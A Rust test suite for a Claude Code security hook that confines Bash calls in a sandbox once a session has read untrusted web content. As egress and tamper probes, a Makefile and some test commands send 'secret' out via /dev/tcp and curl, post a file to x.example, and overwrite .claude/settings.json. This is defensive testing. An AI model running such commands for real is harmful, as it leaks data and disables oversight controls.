//! sc-hook's door to sc-sandbox: a `Bash` call the policy's `sandbox` key confines is answered
//! with `updatedInput`, a command that runs the original under sc-sandbox. The rewritten command
//! is run here as Claude Code would run it, with `bash -c`, against the real kernel (the machine
//! needs bubblewrap).

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{json, Value};

use crate::util::{parse_lines, testdata, Scratch};

/// A policy that taints on `WebFetch`, lets every tool through, and confines `when`.
fn policy(scratch: &Scratch, when: &str) -> PathBuf {
    scratch.write(
        "policy.json",
        json!({
            "sensitiveTools": [],
            "untrustedOutputTools": ["WebFetch"],
            "sandbox": {"when": when, "readOnly": ["protected.txt"]},
        })
        .to_string(),
    )
}

static NEXT_ID: AtomicUsize = AtomicUsize::new(0);

/// A PreToolUse input for `tool` in `session`, in the scratch folder.
fn pre_tool_use(scratch: &Scratch, session: &str, tool: &str, tool_input: Value) -> String {
    json!({
        "session_id": session,
        "transcript_path": "/t",
        "cwd": scratch.dir.path(),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": format!("toolu_{}", NEXT_ID.fetch_add(1, Ordering::SeqCst)),
    })
    .to_string()
}

fn bash_input(scratch: &Scratch, session: &str, command: &str) -> String {
    pre_tool_use(
        scratch,
        session,
        "Bash",
        json!({"command": command, "description": "a test", "timeout": 60000}),
    )
}

/// sc-hook under `policy`, with `env` added to its clean environment.
fn hook(scratch: &Scratch, policy: &Path, env: &[(&str, &str)], input: &str) -> Output {
    let mut cmd = scratch.cmd("sc-hook");
    cmd.arg("--policy").arg(policy);
    for (name, value) in env {
        cmd.env(name, value);
    }
    let out = cmd.write_stdin(input).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// The `hookSpecificOutput` of an answer; `None` when sc-hook said nothing.
fn answer(out: &Output) -> Option<Value> {
    if out.stdout.is_empty() {
        return None;
    }
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
    Some(answer["hookSpecificOutput"].clone())
}

/// Runs `command` with `bash -c` in the scratch folder, as Claude Code's Bash tool does.
fn run_bash(scratch: &Scratch, command: &str) -> Output {
    Command::new("bash")
        .arg("-c")
        .arg(command)
        .current_dir(scratch.dir.path())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .unwrap()
}

fn gate_events(scratch: &Scratch) -> Vec<Value> {
    scratch
        .audit_events()
        .into_iter()
        .filter(|e| e["stage"] == "gate")
        .collect()
}

#[test]
fn a_tainted_sessions_bash_runs_confined_and_an_untainted_ones_does_not() {
    let scratch = Scratch::new();
    let policy = policy(&scratch, "tainted");
    scratch.write("protected.txt", "kept\n");
    let command = "cat protected.txt; echo changed > protected.txt; echo \"after $((1+2))\"";
    // Untainted: not rewritten, and allowed with nothing said.
    let out = hook(
        &scratch,
        &policy,
        &[],
        &bash_input(&scratch, "s-1", command),
    );
    assert_eq!(answer(&out), None);
    assert!(gate_events(&scratch)[0].get("sandboxed").is_none());
    // Tainted by a web page.
    let fetch = pre_tool_use(
        &scratch,
        "s-1",
        "WebFetch",
        json!({"url": "https://example.com/", "prompt": "read"}),
    );
    assert_eq!(answer(&hook(&scratch, &policy, &[], &fetch)), None);
    let out = hook(
        &scratch,
        &policy,
        &[],
        &bash_input(&scratch, "s-1", command),
    );
    let specific = answer(&out).expect("a confined call is answered");
    assert_eq!(
        specific["permissionDecision"], "ask",
        "an allowed call is not approved past the user's rules: {specific}"
    );
    let updated = &specific["updatedInput"];
    assert_eq!(updated["description"], "a test", "{specific}");
    assert_eq!(updated["timeout"], 60000, "{specific}");
    let rewritten = updated["command"].as_str().unwrap();
    assert_ne!(rewritten, command);
    assert!(rewritten.contains("sc-sandbox"), "{rewritten}");
    // The audit event says so, with the original text.
    let gate = gate_events(&scratch);
    let event = gate.last().unwrap();
    assert_eq!(event["decision"], "allow", "{event}");
    assert_eq!(event["sandboxed"], true, "{event}");
    assert_eq!(event["originalCommand"], command, "{event}");
    // Run as Claude Code runs it: the output passes through, the protected file is unchanged.
    let ran = run_bash(&scratch, rewritten);
    let stdout = String::from_utf8_lossy(&ran.stdout);
    assert_eq!(
        stdout,
        "kept\nafter 3\n",
        "stderr: {}",
        String::from_utf8_lossy(&ran.stderr)
    );
    assert!(
        String::from_utf8_lossy(&ran.stderr).contains("protected.txt"),
        "the write failed: {}",
        String::from_utf8_lossy(&ran.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(scratch.path("protected.txt")).unwrap(),
        "kept\n"
    );
    // sc-sandbox recorded the run under the gate event's id.
    let id = event["id"].as_str().unwrap();
    assert!(
        scratch
            .audit_events()
            .iter()
            .any(|e| e["stage"] == "sandbox" && e["id"] == id),
        "{:?}",
        scratch.audit_events()
    );
    // Another session is untainted: not rewritten.
    let out = hook(
        &scratch,
        &policy,
        &[],
        &bash_input(&scratch, "s-2", command),
    );
    assert_eq!(answer(&out), None);
    // Where the user is never asked anyway, the confined call is allowed.
    let mut input: Value = serde_json::from_str(&bash_input(&scratch, "s-1", command)).unwrap();
    input["permission_mode"] = json!("bypassPermissions");
    let out = hook(&scratch, &policy, &[], &input.to_string());
    let specific = answer(&out).unwrap();
    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
    let tail = |command: &str| command.split_once("'--' ").unwrap().1.to_owned();
    assert_eq!(
        tail(specific["updatedInput"]["command"].as_str().unwrap()),
        tail(rewritten)
    );
}

#[test]
fn hard_commands_pass_byte_for_byte() {
    let scratch = Scratch::new();
    let policy = policy(&scratch, "always");
    let commands = [
        r#"printf '%s|' 'single' "double $((1+2))" $'tab\there\n' "it's"; echo"#,
        r#"echo back\\slash "a\"b" 'it'\''s' \$x"#,
        "cat <<'EOF'\n$x `y` \\n 'q' \"d\"\nEOF\ncat <<EOF\n$((2*3)) \\$ \\\\\nEOF",
        "echo one\necho two\n\necho three   \n",
        "for w in a 'b c' \"d\"; do printf '[%s]' \"$w\"; done; echo\n# a comment with 'quotes\n",
    ];
    for command in commands {
        let out = hook(
            &scratch,
            &policy,
            &[],
            &bash_input(&scratch, "s-1", command),
        );
        let specific = answer(&out).expect("confined");
        let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
        let plain = run_bash(&scratch, command);
        let confined = run_bash(&scratch, rewritten);
        assert!(plain.status.success(), "{command}");
        assert_eq!(
            String::from_utf8_lossy(&confined.stdout),
            String::from_utf8_lossy(&plain.stdout),
            "{command:?}: {}",
            String::from_utf8_lossy(&confined.stderr)
        );
        assert_eq!(confined.status.code(), plain.status.code(), "{command:?}");
    }
}

#[test]
fn every_corpus_command_reaches_sc_sandbox_byte_for_byte() {
    // Not run (the corpus holds `rm -rf` and friends): the shell reads the rewritten command's
    // words back, and the script handed to `bash -c` inside is the original, byte for byte.
    let scratch = Scratch::new();
    let policy = policy(&scratch, "always");
    let corpus = std::fs::read_to_string(testdata("commands/corpus.jsonl")).unwrap();
    let commands: Vec<String> = parse_lines(&corpus)
        .iter()
        .filter_map(|line| line["args"]["command"].as_str().map(str::to_owned))
        // A NUL cannot be in an argument: no shell runs these, confined or not.
        .filter(|command| !command.contains('\0'))
        .collect();
    assert!(commands.len() > 100, "{}", commands.len());
    let mut script = String::new();
    for command in &commands {
        let out = hook(
            &scratch,
            &policy,
            &[],
            &bash_input(&scratch, "s-1", command),
        );
        let specific = answer(&out).expect("confined");
        let rewritten = specific["updatedInput"]["command"]
            .as_str()
            .unwrap_or_else(|| panic!("not confined: {specific} {command:?}"));
        assert!(rewritten.starts_with('\''), "{rewritten}");
        script.push_str(&format!("printf '%s\\0' {rewritten} | tail -z -n 1\n"));
    }
    // One script file for all: together they are longer than one argument may be.
    let file = scratch.write("words.sh", &script);
    let out = Command::new("bash").arg(file).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let words: Vec<&[u8]> = out.stdout.split(|b| *b == 0).collect();
    assert_eq!(words.len(), commands.len() + 1);
    for (command, word) in commands.iter().zip(words) {
        assert_eq!(String::from_utf8_lossy(word), command.as_str());
    }
}

#[test]
fn without_bubblewrap_the_call_is_held_naming_what_is_missing() {
    let scratch = Scratch::new();
    let policy = policy(&scratch, "always");
    let out = hook(
        &scratch,
        &policy,
        &[("SC_SANDBOX_BWRAP", "/nonexistent/bwrap")],
        &bash_input(&scratch, "s-1", "echo hi"),
    );
    let specific = answer(&out).expect("held");
    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
    assert!(specific.get("updatedInput").is_none(), "{specific}");
    let reason = specific["permissionDecisionReason"].as_str().unwrap();
    assert!(
        reason.contains("/nonexistent/bwrap")
            && reason.contains("not run unconfined")
            && reason.contains("approving it runs the command unconfined"),
        "{reason}"
    );
    let gate = gate_events(&scratch);
    assert_eq!(gate[0]["decision"], "hold", "{}", gate[0]);
    // A sandbox key that cannot be placed here is held the same way.
    let bad = scratch.write(
        "bad.json",
        json!({"sandbox": {"when": "always", "hidden": ["~/.ssh"]}}).to_string(),
    );
    let out = hook(&scratch, &bad, &[], &bash_input(&scratch, "s-2", "echo hi"));
    let specific = answer(&out).expect("held");
    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
    assert!(
        specific["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("home folder"),
        "{specific}"
    );
}

/// A PreToolUse input made in `cwd`.
fn pre_tool_use_in(cwd: &Path, session: &str, tool: &str, tool_input: Value) -> String {
    json!({
        "session_id": session,
        "transcript_path": "/t",
        "cwd": cwd,
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": format!("toolu_{}", NEXT_ID.fetch_add(1, Ordering::SeqCst)),
    })
    .to_string()
}

/// Taints `session` with a web page.
fn taint(scratch: &Scratch, policy: &Path, session: &str) {
    let fetch = pre_tool_use(
        scratch,
        session,
        "WebFetch",
        json!({"url": "https://example.com/", "prompt": "read"}),
    );
    assert_eq!(answer(&hook(scratch, policy, &[], &fetch)), None);
}

#[test]
fn where_the_sandbox_applies_file_tools_cannot_write_its_read_only_places() {
    let scratch = Scratch::new();
    let policy = scratch.write(
        "policy.json",
        json!({
            "sensitiveTools": [],
            "untrustedOutputTools": ["WebFetch"],
            "sandbox": {"when": "tainted", "readOnly": [".mcp.json", ".claude"], "hidden": [".env"]},
        })
        .to_string(),
    );
    let write = |session: &str, path: &str| {
        pre_tool_use(
            &scratch,
            session,
            "Write",
            json!({"file_path": path, "content": "{}"}),
        )
    };
    // Untainted: `when: tainted` does not apply, and nothing else holds the write.
    assert_eq!(
        answer(&hook(&scratch, &policy, &[], &write("s-1", ".mcp.json"))),
        None
    );
    taint(&scratch, &policy, "s-1");
    for (path, index) in [(".mcp.json", 0), (".claude/settings.json", 1)] {
        let specific = answer(&hook(&scratch, &policy, &[], &write("s-1", path))).unwrap();
        assert_eq!(specific["permissionDecision"], "deny", "{path}: {specific}");
        let reason = specific["permissionDecisionReason"].as_str().unwrap();
        assert!(
            reason.contains(&format!("sandbox.readOnly[{index}]")),
            "{reason}"
        );
    }
    // The gate's own audit log, though the policy has no `paths` key.
    let specific = answer(&hook(
        &scratch,
        &policy,
        &[],
        &write("s-1", "logs/audit.jsonl"),
    ))
    .unwrap();
    assert_eq!(specific["permissionDecision"], "deny", "{specific}");
    // A hidden place's read is held.
    let read = pre_tool_use(&scratch, "s-1", "Read", json!({"file_path": ".env"}));
    let specific = answer(&hook(&scratch, &policy, &[], &read)).unwrap();
    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
    assert!(
        specific["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("sandbox.hidden[0]"),
        "{specific}"
    );
    // Through symbolic links a confined call could make: to the folder, and to the file.
    std::fs::create_dir_all(scratch.path(".claude")).unwrap();
    std::fs::write(scratch.path(".claude/settings.json"), "{}").unwrap();
    std::os::unix::fs::symlink(".claude", scratch.path("cl")).unwrap();
    std::os::unix::fs::symlink(".mcp.json", scratch.path("innocent.json")).unwrap();
    for path in ["cl/settings.json", "cl/new.json", "innocent.json"] {
        let specific = answer(&hook(&scratch, &policy, &[], &write("s-1", path))).unwrap();
        assert_eq!(specific["permissionDecision"], "deny", "{path}: {specific}");
        let reason = specific["permissionDecisionReason"].as_str().unwrap();
        assert!(reason.contains("sandbox.readOnly["), "{path}: {reason}");
    }
    // Another file is written as before.
    assert_eq!(
        answer(&hook(&scratch, &policy, &[], &write("s-1", "src/x.rs"))),
        None
    );
}

#[test]
fn the_sandbox_is_rooted_at_the_project_not_the_calls_sub_folder() {
    let scratch = Scratch::new();
    let policy = policy(&scratch, "always");
    std::fs::create_dir_all(scratch.path(".git")).unwrap();
    std::fs::create_dir_all(scratch.path("sub/deeper")).unwrap();
    scratch.write("protected.txt", "kept\n");
    let sub = scratch.path("sub/deeper");
    let input = pre_tool_use_in(
        &sub,
        "s-1",
        "Bash",
        json!({"command": "echo changed > ../../protected.txt; echo in-sub > made.txt; cat made.txt"}),
    );
    let specific = answer(&hook(&scratch, &policy, &[], &input)).expect("confined");
    let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
    let root = format!("'--root' '{}'", scratch.dir.path().display());
    assert!(rewritten.contains(&root), "{rewritten}");
    let ran = Command::new("bash")
        .arg("-c")
        .arg(rewritten)
        .current_dir(&sub)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&ran.stdout),
        "in-sub\n",
        "{}",
        String::from_utf8_lossy(&ran.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(scratch.path("protected.txt")).unwrap(),
        "kept\n"
    );
}

/// The `'--root' 'DIR'` of a rewritten command.
fn rewritten_root(specific: &Value) -> String {
    let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
    let after = rewritten.split("'--root' '").nth(1).expect("a --root");
    after.split('\'').next().unwrap().to_owned()
}

#[test]
fn claude_codes_project_folder_roots_the_sandbox_and_a_home_kept_in_git_does_not() {
    let scratch = Scratch::new();
    let policy = policy(&scratch, "always");
    // The home folder is a git work tree (dotfiles), the project inside it is not one.
    std::fs::create_dir_all(scratch.path("home/.git")).unwrap();
    std::fs::create_dir_all(scratch.path("home/proj/sub")).unwrap();
    let home = scratch.path("home");
    let project = scratch.path("home/proj");
    let sub = scratch.path("home/proj/sub");
    let home_flag = ["--home", home.to_str().unwrap()];
    let run = |env: &[(&str, &str)], cwd: &Path, session: &str| {
        let mut cmd = scratch.cmd("sc-hook");
        cmd.arg("--policy").arg(&policy).args(home_flag);
        for (name, value) in env {
            cmd.env(name, value);
        }
        let input = pre_tool_use_in(cwd, session, "Bash", json!({"command": "true"}));
        let out = cmd.write_stdin(input).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        answer(&out).expect("an answer")
    };
    // Without the project folder: not the home (which git would give), the call's cwd.
    assert_eq!(
        rewritten_root(&run(&[], &sub, "s-1")),
        sub.display().to_string()
    );
    // With it, the project folder, wherever the call stands.
    let env = [("CLAUDE_PROJECT_DIR", project.to_str().unwrap())];
    assert_eq!(
        rewritten_root(&run(&env, &sub, "s-2")),
        project.display().to_string()
    );
    // Claude Code started in the home folder (or above it): the sandbox would make the home
    // writable (~/.gitconfig, shell profiles), so the call is held, not confined there.
    for root in [home.clone(), scratch.dir.path().to_path_buf()] {
        let env = [("CLAUDE_PROJECT_DIR", root.to_str().unwrap())];
        let held = run(&env, &sub, "s-3");
        assert_eq!(held["permissionDecision"], "ask", "{held}");
        assert!(held.get("updatedInput").is_none(), "{held}");
        let reason = held["permissionDecisionReason"].as_str().unwrap();
        assert!(reason.contains("holds the home folder"), "{reason}");
    }
    // The home named through a link (`/home -> var/home`), the project named by its real path.
    std::os::unix::fs::symlink(&home, scratch.path("homelink")).unwrap();
    let mut cmd = scratch.cmd("sc-hook");
    cmd.arg("--policy")
        .arg(&policy)
        .arg("--home")
        .arg(scratch.path("homelink"))
        .env("CLAUDE_PROJECT_DIR", &home);
    let input = pre_tool_use_in(&sub, "s-4", "Bash", json!({"command": "true"}));
    let out = cmd.write_stdin(input).output().unwrap();
    let held = answer(&out).expect("an answer");
    assert!(held.get("updatedInput").is_none(), "{held}");
    assert!(
        held["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("holds the home folder"),
        "{held}"
    );
    // No HOME and no --home (the clean environment): the user's home in the password
    // database still counts.
    let passwd_home = nix::unistd::User::from_uid(nix::unistd::getuid())
        .unwrap()
        .expect("the test's user has an entry")
        .dir;
    let mut cmd = scratch.cmd("sc-hook");
    cmd.arg("--policy")
        .arg(&policy)
        .env("CLAUDE_PROJECT_DIR", &passwd_home);
    let input = pre_tool_use_in(&sub, "s-5", "Bash", json!({"command": "true"}));
    let held = answer(&cmd.write_stdin(input).output().unwrap()).expect("an answer");
    assert!(held.get("updatedInput").is_none(), "{held}");
    assert!(
        held["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("holds the home folder"),
        "{held}"
    );
}

#[test]
fn a_kernel_that_refuses_the_namespaces_holds_the_call_naming_it() {
    // sc-hook runs where no new user namespace can be made: inside bubblewrap's
    // --disable-userns (bubblewrap 0.8 and later), as in a container that forbids them.
    let scratch = Scratch::new();
    let policy = policy(&scratch, "always");
    let mut cmd = Command::new("bwrap");
    cmd.args([
        "--dev-bind",
        "/",
        "/",
        "--unshare-user",
        "--disable-userns",
        "--",
    ])
    .arg(crate::util::bin_path("sc-hook"))
    .arg("--audit")
    .arg(scratch.audit_path())
    .arg("--policy")
    .arg(&policy)
    .current_dir(scratch.dir.path())
    .env_clear()
    .env("PATH", std::env::var_os("PATH").unwrap_or_default())
    .stdin(std::process::Stdio::piped())
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(bash_input(&scratch, "s-1", "echo ran > ran.txt").as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let specific = answer(&out).expect("held");
    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
    assert!(specific.get("updatedInput").is_none(), "{specific}");
    let reason = specific["permissionDecisionReason"].as_str().unwrap();
    assert!(
        reason.contains("cannot make the sandbox") && reason.contains("namespace"),
        "{reason}"
    );
    assert!(!scratch.path("ran.txt").exists());
}

#[test]
fn a_call_that_taints_by_its_own_output_runs_confined() {
    let scratch = Scratch::new();
    let policy = scratch.write(
        "policy.json",
        json!({
            "sensitiveTools": [],
            "untrustedOutputTools": ["Bash"],
            "sandbox": {"when": "tainted"},
        })
        .to_string(),
    );
    let out = hook(
        &scratch,
        &policy,
        &[],
        &bash_input(&scratch, "s-1", "echo first"),
    );
    let specific = answer(&out).expect("the first call is confined too");
    assert!(
        specific["updatedInput"]["command"]
            .as_str()
            .unwrap()
            .contains("sc-sandbox"),
        "{specific}"
    );
}

/// A loopback listener of the test's own network namespace, counting what reaches it.
struct Listener {
    port: u16,
    received: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
    connections: std::sync::Arc<AtomicUsize>,
}

impl Listener {
    fn start() -> Listener {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let connections = std::sync::Arc::new(AtomicUsize::new(0));
        let (got, count) = (received.clone(), connections.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                count.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
                let mut buf = Vec::new();
                let _ = std::io::Read::read_to_end(&mut stream, &mut buf);
                got.lock().unwrap().extend(buf);
            }
        });
        Listener {
            port,
            received,
            connections,
        }
    }
}

/// The pack, a project with a `.git` and a `.claude/settings.json`, and a home folder.
struct PackProject {
    scratch: Scratch,
    project: PathBuf,
    home: PathBuf,
}

impl PackProject {
    fn new() -> PackProject {
        let scratch = Scratch::new();
        let project = scratch.path("proj");
        std::fs::create_dir_all(project.join(".git/hooks")).unwrap();
        scratch.write("proj/.claude/settings.json", "{\"hooks\": \"kept\"}\n");
        let home = scratch.path("home");
        std::fs::create_dir_all(&home).unwrap();
        PackProject {
            scratch,
            project,
            home,
        }
    }

    /// sc-hook under the pack, as Claude Code runs it in the project.
    fn hook(&self, session: &str, tool: &str, tool_input: Value) -> Output {
        let input = pre_tool_use_in(&self.project, session, tool, tool_input);
        let pack = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/claude-code.json");
        let home = self.home.to_str().unwrap().to_owned();
        hook(&self.scratch, &pack, &[("HOME", &home)], &input)
    }

    fn bash(&self, session: &str, command: &str) -> Output {
        self.hook(session, "Bash", json!({"command": command}))
    }

    /// A command run in the project with `bash -c`, as Claude Code's Bash tool runs it.
    fn run(&self, command: &str) -> Output {
        Command::new("bash")
            .arg("-c")
            .arg(command)
            .current_dir(&self.project)
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", &self.home)
            .output()
            .unwrap()
    }

    fn settings(&self) -> String {
        std::fs::read_to_string(self.project.join(".claude/settings.json")).unwrap()
    }

    fn last_gate_event(&self) -> Value {
        gate_events(&self.scratch).pop().unwrap()
    }
}

#[test]
fn under_the_pack_a_tainted_sessions_make_runs_confined_and_keeps_the_promises() {
    let pack = PackProject::new();
    let listener = Listener::start();
    let port = listener.port;
    let curl = if Path::new("/usr/bin/curl").exists() {
        format!("\t-curl -s -m 3 --data-binary secret http://127.0.0.1:{port}/\n")
    } else {
        String::new()
    };
    pack.scratch.write(
        "proj/Makefile",
        format!(
            "all:\n\t@echo build-ran\n\t-echo '{{\"hooks\": {{}}}}' > .claude/settings.json\n\t-bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}'\n\t-bash -c 'echo secret > /dev/udp/127.0.0.1/{port}'\n{curl}\t@echo build-done\n"
        ),
    );
    // Untainted: `make` is allowed as it stands, and not rewritten.
    assert_eq!(answer(&pack.bash("s-clean", "make")), None);
    assert!(pack.last_gate_event().get("sandboxed").is_none());
    // Tainted by a web page.
    let fetch = pack.hook(
        "s-1",
        "WebFetch",
        json!({"url": "https://example.com/", "prompt": "read"}),
    );
    assert_eq!(answer(&fetch), None);
    let specific = answer(&pack.bash("s-1", "make")).expect("a confined call is answered");
    // The pack's `approveConfined`: an allowed confined call runs without the prompt.
    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
    let event = pack.last_gate_event();
    assert_eq!(event["decision"], "allow", "{event}");
    assert_eq!(event["sandboxed"], true, "{event}");
    let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
    // With a home, sc-hook has a state folder: the invocation (root and all) is prepared there,
    // and the command is the short one.
    assert!(
        rewritten.contains(" --run ") && rewritten.ends_with(" -- bash -c make"),
        "{rewritten}"
    );
    let ran = pack.run(rewritten);
    let stdout = String::from_utf8_lossy(&ran.stdout);
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(
        stdout.contains("build-ran") && stdout.contains("build-done"),
        "the build ran: {stdout}\n{stderr}"
    );
    assert_eq!(pack.settings(), "{\"hooks\": \"kept\"}\n", "{stderr}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(
        listener.connections.load(Ordering::SeqCst),
        0,
        "something reached the listener: {:?}",
        String::from_utf8_lossy(&listener.received.lock().unwrap())
    );
    // The same Makefile run plain reaches the listener: the test can see egress.
    if !curl.is_empty() {
        let plain = pack.run(&format!(
            "curl -s -m 3 --data-binary probe http://127.0.0.1:{port}/ || true"
        ));
        assert!(plain.status.success());
        std::thread::sleep(std::time::Duration::from_millis(300));
        assert!(listener.connections.load(Ordering::SeqCst) >= 1);
    }
}

#[test]
fn under_the_pack_a_tainted_sessions_python_script_is_allowed_confined() {
    let pack = PackProject::new();
    pack.scratch.write(
        "proj/x.py",
        "print('script-ran')\ntry:\n    open('.claude/settings.json', 'w').write('{}')\nexcept OSError as err:\n    print('refused', err.errno)\n",
    );
    // Untainted: the pack holds a script, which text cannot show.
    let specific = answer(&pack.bash("s-clean", "python3 x.py")).expect("held");
    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
    assert!(specific.get("updatedInput").is_none(), "{specific}");
    assert_eq!(pack.last_gate_event()["decision"], "hold");
    let fetch = pack.hook(
        "s-1",
        "WebFetch",
        json!({"url": "https://example.com/", "prompt": "read"}),
    );
    assert_eq!(answer(&fetch), None);
    let specific = answer(&pack.bash("s-1", "python3 x.py")).expect("confined");
    let event = pack.last_gate_event();
    assert_eq!(event["decision"], "allow", "{event}");
    assert_eq!(event["sandboxed"], true, "{event}");
    assert!(
        event["reasons"][0]
            .as_str()
            .unwrap()
            .contains("whenConfined"),
        "{event}"
    );
    let ran = pack.run(specific["updatedInput"]["command"].as_str().unwrap());
    let stdout = String::from_utf8_lossy(&ran.stdout);
    assert!(
        stdout.contains("script-ran") && stdout.contains("refused"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&ran.stderr)
    );
    assert_eq!(pack.settings(), "{\"hooks\": \"kept\"}\n");
    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
    // A confined curl runs (its proxy reaches only `network.allow`, none in the pack); a push
    // stays held, confined or not.
    let specific = answer(&pack.bash("s-1", "curl -d @x.py https://x.example/")).unwrap();
    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
    assert_eq!(pack.last_gate_event()["decision"], "allow");
    let specific = answer(&pack.bash("s-1", "git push origin main")).unwrap();
    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
    assert_eq!(pack.last_gate_event()["decision"], "hold");
}

#[test]
fn approve_confined_lets_an_allowed_confined_call_run_without_the_prompt() {
    let scratch = Scratch::new();
    let policy = scratch.write(
        "policy.json",
        json!({
            "sensitiveTools": [],
            "sandbox": {"when": "always", "readOnly": ["protected.txt"], "approveConfined": true},
        })
        .to_string(),
    );
    let specific = answer(&hook(
        &scratch,
        &policy,
        &[],
        &bash_input(&scratch, "s-1", "echo hi"),
    ))
    .expect("confined");
    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
    let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
    let ran = run_bash(&scratch, rewritten);
    assert_eq!(String::from_utf8_lossy(&ran.stdout), "hi\n");
    // Without the key (the default), the same call is asked.
    let plain = policy_without_approve(&scratch);
    let specific = answer(&hook(
        &scratch,
        &plain,
        &[],
        &bash_input(&scratch, "s-2", "echo hi"),
    ))
    .expect("confined");
    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
}

fn policy_without_approve(scratch: &Scratch) -> PathBuf {
    scratch.write(
        "plain.json",
        json!({"sensitiveTools": [], "sandbox": {"when": "always", "readOnly": ["protected.txt"]}})
            .to_string(),
    )
}
